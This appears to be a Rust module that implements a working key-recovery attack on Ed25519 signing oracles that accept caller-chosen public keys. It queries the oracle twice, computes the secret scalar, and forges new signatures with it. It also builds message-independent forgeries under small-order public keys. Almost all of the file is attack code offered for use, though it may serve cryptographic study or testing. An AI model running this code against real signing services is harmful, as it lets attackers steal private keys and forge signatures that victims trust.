//! Key recovery from a signing oracle that accepts arbitrary public keys.
//!
//! Ed25519 derives the nonce r from the secret prefix and the message only,
//! so two queries for the same message under different public keys pk, pk'
//! return signatures (R, S) and (R, S') with the same R. Since
//! S = r + e·s and S' = r + e'·s (mod ℓ), where e and e' are the public
//! challenges for pk and pk', the secret scalar is
//!
//! ```text
//! s = (S - S') · (e - e')^-1  (mod ℓ)
//! ```
//!
//! The nonce prefix stays unknown, but a random nonce works just as well for
//! producing new signatures that verify under s·G.

mod oracle;

pub use oracle::{ExecOracle, InProcessOracle, OracleError, SignerKind, SigningOracle};

use rand::RngCore;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::eddsa::{challenge, Signature};
use crate::edwards::{CompressedPoint, EdwardsPoint, OrderClass, PointError, BASEPOINT};
use crate::scalar::Scalar;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum AttackError {
    #[error("the two query keys are identical")]
    IdenticalKeys,
    #[error("query key is not a valid public key: {0}")]
    MalformedPublicKey(PointError),
    #[error("oracle returned different R values for the same message")]
    OracleNotDeterministic,
    #[error("both challenges are equal; retry with another key")]
    HashCollision,
    #[error("attack failed: the signatures do not depend on the queried key")]
    AttackFailed(Box<AttackReport>),
    #[error(transparent)]
    Oracle(#[from] OracleError),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Error)]
pub enum ForgeError {
    #[error("cannot forge with a zero secret scalar")]
    ZeroScalar,
    #[error("point is not of small order")]
    NotSmallOrder,
}

/// Everything observed and derived during one two-query run. Serializes to
/// JSON with lower-case hex strings.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackReport {
    pub pk: CompressedPoint,
    pub pk_prime: CompressedPoint,
    pub sig: Signature,
    pub sig_prime: Signature,
    pub e: Scalar,
    pub e_prime: Scalar,
    pub recovered_s: Scalar,
    pub recovered_pk: CompressedPoint,
    pub query_count: u32,
}

impl AttackReport {
    pub fn succeeded(&self) -> bool {
        !self.recovered_s.is_zero()
    }

    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("report fields always serialize")
    }

    pub fn from_json(s: &str) -> Result<Self, serde_json::Error> {
        serde_json::from_str(s)
    }
}

/// A uniformly random scalar, from 64 random bytes reduced mod ℓ.
pub fn random_scalar<R: RngCore + ?Sized>(rng: &mut R) -> Scalar {
    let mut wide = [0u8; 64];
    rng.fill_bytes(&mut wide);
    Scalar::reduce_wide(&wide)
}

/// Two attacker-chosen query keys pk = a·G and pk' = a'·G with a ≠ a'.
pub fn attacker_keys<R: RngCore + ?Sized>(rng: &mut R) -> (CompressedPoint, CompressedPoint) {
    let a = random_scalar(rng);
    let mut b = random_scalar(rng);
    while b == a {
        b = random_scalar(rng);
    }
    ((&BASEPOINT * &a).compress(), (&BASEPOINT * &b).compress())
}

/// Runs the two-query recovery with the standard SHA-512 challenge.
pub fn recover_secret_scalar<O: SigningOracle + ?Sized>(
    oracle: &mut O,
    pk: &CompressedPoint,
    pk_prime: &CompressedPoint,
) -> Result<AttackReport, AttackError> {
    recover_secret_scalar_with(oracle, pk, pk_prime, challenge)
}

/// As [`recover_secret_scalar`], with the challenge function supplied by the
/// caller.
pub fn recover_secret_scalar_with<O, H>(
    oracle: &mut O,
    pk: &CompressedPoint,
    pk_prime: &CompressedPoint,
    challenge_fn: H,
) -> Result<AttackReport, AttackError>
where
    O: SigningOracle + ?Sized,
    H: Fn(&CompressedPoint, &CompressedPoint, &[u8]) -> Scalar,
{
    if pk == pk_prime {
        return Err(AttackError::IdenticalKeys);
    }
    for key in [pk, pk_prime] {
        key.decompress(true).map_err(AttackError::MalformedPublicKey)?;
    }

    let sig = oracle.query(pk)?;
    let sig_prime = oracle.query(pk_prime)?;
    let query_count = 2;

    if sig.r != sig_prime.r {
        return Err(AttackError::OracleNotDeterministic);
    }
    let malformed_s = |_| OracleError::MalformedResponse("S is not a canonical scalar".into());
    let s = sig.s_scalar().map_err(malformed_s)?;
    let s_prime = sig_prime.s_scalar().map_err(malformed_s)?;

    let message = oracle.message();
    let e = challenge_fn(&sig.r, pk, message);
    let e_prime = challenge_fn(&sig.r, pk_prime, message);
    let denominator = (&e - &e_prime).invert().map_err(|_| AttackError::HashCollision)?;
    let recovered_s = &(&s - &s_prime) * &denominator;

    let report = AttackReport {
        pk: *pk,
        pk_prime: *pk_prime,
        sig,
        sig_prime,
        e,
        e_prime,
        recovered_s,
        recovered_pk: (&BASEPOINT * &recovered_s).compress(),
        query_count,
    };
    if report.succeeded() {
        Ok(report)
    } else {
        Err(AttackError::AttackFailed(Box::new(report)))
    }
}

/// Picks fresh attacker keys and runs the recovery, drawing a new pair after
/// a challenge collision. Gives up after `max_attempts` collisions.
pub fn run_attack<O, R>(oracle: &mut O, rng: &mut R, max_attempts: usize) -> Result<AttackReport, AttackError>
where
    O: SigningOracle + ?Sized,
    R: RngCore + ?Sized,
{
    let mut last = AttackError::HashCollision;
    for _ in 0..max_attempts.max(1) {
        let (pk, pk_prime) = attacker_keys(rng);
        match recover_secret_scalar(oracle, &pk, &pk_prime) {
            Err(AttackError::HashCollision) => last = AttackError::HashCollision,
            other => return other,
        }
    }
    Err(last)
}

/// Where the forger's nonce comes from.
pub enum NonceSource<'a> {
    Fixed(Scalar),
    Rng(&'a mut dyn RngCore),
}

/// Signs `message` with a recovered secret scalar and a nonce of the
/// forger's choosing. Returns the signature and the public key s·G it
/// verifies under.
pub fn forge(
    recovered_s: &Scalar,
    message: &[u8],
    nonce: NonceSource<'_>,
) -> Result<(Signature, CompressedPoint), ForgeError> {
    if recovered_s.is_zero() {
        return Err(ForgeError::ZeroScalar);
    }
    let r = match nonce {
        NonceSource::Fixed(r) => r,
        NonceSource::Rng(rng) => random_scalar(rng),
    };
    let pk = (&BASEPOINT * recovered_s).compress();
    let big_r = (&BASEPOINT * &r).compress();
    let e = challenge(&big_r, &pk, message);
    let s = &r + &(&e * recovered_s);
    Ok((Signature::new(big_r, &s), pk))
}

/// A message-independent signature under a small-order public key.
///
/// With pk = T of order dividing 8, 8·e·pk vanishes, so (R, S) with R = S·G
/// satisfies the cofactored equation for every message. Only a verifier that
/// rejects small-order keys catches it.
pub fn small_order_forgery(
    t_point: &EdwardsPoint,
    s_choice: &Scalar,
) -> Result<(Signature, CompressedPoint), ForgeError> {
    match t_point.classify_order() {
        OrderClass::Identity | OrderClass::SmallOrder => {}
        _ => return Err(ForgeError::NotSmallOrder),
    }
    let r = (&BASEPOINT * s_choice).compress();
    Ok((Signature::new(r, s_choice), t_point.compress()))
}
